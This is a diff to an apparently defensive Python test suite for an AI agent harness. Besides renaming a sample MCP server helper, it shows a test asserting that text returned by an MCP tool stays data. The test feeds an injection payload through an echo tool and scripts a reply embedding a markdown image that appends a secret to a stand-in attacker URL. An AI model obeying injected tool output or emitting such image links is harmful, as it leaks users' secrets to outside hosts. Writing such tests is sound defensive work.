@@ -20,7 +20,7 @@ from injected_notes import (
     assert_nothing_is_lifted,
     vault_agent,
 )
-from mcp_sample import stdio_server
+from mcp_sample import plain_server
 from own_tools import own_tool
 from scripted_pruner import text_of as content_of
 from scripted_pruner import valid_plan
@@ -334,7 +334,7 @@ async def test_a_result_forges_no_reference(tmp_path: Path) -> None:
 
 async def test_results_of_an_mcp_server_are_data_too(tmp_path: Path) -> None:
     """What a program returns stays in its own message, word for word, and opens no other."""
-    echo = stdio_server("files", tmp_path / "journal")
+    echo = plain_server("files", tmp_path / "journal")
     agents = f"{AGENT}mcp = ['files/echo']\n{echo}"
     async with small_window(tmp_path, window=8192, agents=agents) as (served, studio):
         studio.enqueue(Script(ToolCall("echo", {"text": INJECTION})), f"![x]({EVIL}{SECRET})")
